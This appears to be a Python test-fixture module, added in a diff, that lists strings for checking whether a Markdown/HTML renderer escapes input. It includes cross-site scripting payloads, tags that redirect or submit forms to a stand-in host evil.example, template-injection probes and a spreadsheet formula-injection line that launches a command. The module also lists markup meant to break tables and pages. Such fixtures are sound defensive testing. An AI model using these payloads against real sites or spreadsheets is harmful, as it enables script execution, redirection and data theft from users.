@@ -1,0 +1,148 @@
+"""xss, struct: texts that would run, forge a link, or tear the table or the page that they stand in."""
+
+from __future__ import annotations
+
+RUNNING = (
+    *(
+        "<script>alert(1)</script>",
+        "</title><script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+    ),
+    *(
+        "<svg/onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        '"><script>alert(1)</script>',
+    ),
+    *(
+        "'><img src=x onerror=alert(1)>",
+        '" onmouseover="alert(1)',
+        "' onfocus='alert(1)' autofocus='",
+    ),
+    *(
+        "<iframe src=javascript:alert(1)>",
+        "<body onload=alert(1)>",
+        "<a href=javascript:alert(1)>x</a>",
+    ),
+    *(
+        "<math><mi xlink:href=javascript:alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<base href=//evil.example/>",
+    ),
+    *(
+        "<meta http-equiv=refresh content=0;url=//evil.example>",
+        "<link rel=stylesheet href=//evil.example/a.css>",
+    ),
+    *(
+        "<style>@import url(//evil.example/a.css)</style>",
+        "<object data=//evil.example>",
+        "<embed src=//evil.example>",
+    ),
+    *(
+        "<form action=//evil.example><input name=x>",
+        "<video src=//evil.example>",
+        "<template><script>alert(1)</script>",
+    ),
+    *(
+        "</script><script>alert(1)</script>",
+        "--><script>alert(1)</script>",
+        "]]><script>alert(1)</script>",
+    ),
+    *(
+        "</style><script>alert(1)</script>",
+        "</textarea><script>alert(1)</script>",
+        "<!--<script>alert(1)-->",
+    ),
+    *(
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    ),
+    *("[ก](javascript:alert(1))", "![ก](https://evil.example/a.png)", "[ก]: javascript:alert(1)"),
+    *(
+        "<javascript:alert(1)>",
+        "<https://evil.example/>",
+        "[ก](https://evil.example 'ข')",
+        "![][a]",
+    ),
+    *(
+        "{: onclick=alert(1) }",
+        "ก {: #x .y onclick=alert(1) }",
+        "{{ config }}",
+        "{% include 'x' %}",
+        "{{7*7}}",
+    ),
+    *(
+        "${7*7}",
+        "#{7*7}",
+        "<%= 7*7 %>",
+        ":smile:",
+        '--8<-- "mkdocs.yml"',
+        "[TOC]",
+        "[^1]",
+        "*[ก]: ข",
+    ),
+    *(
+        '=HYPERLINK("https://evil.example")',
+        "@SUM(1+1)",
+        "+cmd|' /C calc'!A0",
+        "-1+1",
+        "\u0e01\u0e33<b>",
+    ),
+)
+STRUCTURE = (
+    *(
+        "ก | ข | ค",
+        "|---|---|",
+        "||",
+        "\\|",
+        "`|`",
+        "# ก",
+        "## ก",
+        "- ก",
+        "* ก",
+        "+ ก",
+        "1. ก",
+        "> ก",
+    ),
+    *(
+        "```",
+        "~~~",
+        "---",
+        "===",
+        "***",
+        "___",
+        "<!-- ก",
+        "-->",
+        "<div>",
+        "</div>",
+        "</td></tr></table>",
+    ),
+    *(
+        "<table><tr><td>",
+        "</article>",
+        "</main>",
+        "</html>",
+        "&nbsp;",
+        "&amp;",
+        "\\",
+        "\\\\",
+        "\\n",
+        "*ก*",
+    ),
+    *(
+        "_ก_",
+        "**ก**",
+        "`ก`",
+        "~~ก~~",
+        "^ก^",
+        "==ก==",
+        "++ก++",
+        "$ก$",
+        "!!! note",
+        "??? note",
+        ": ก",
+        "ก\n\nข",
+    ),
+    *("ก  ", "  ก", "    ก", "'", '"', "''", "klzzwxh:0000", "wzxhzdk:0", "<?php", "<![CDATA[ก]]>"),
+)
+PAYLOADS = (*RUNNING, *STRUCTURE)
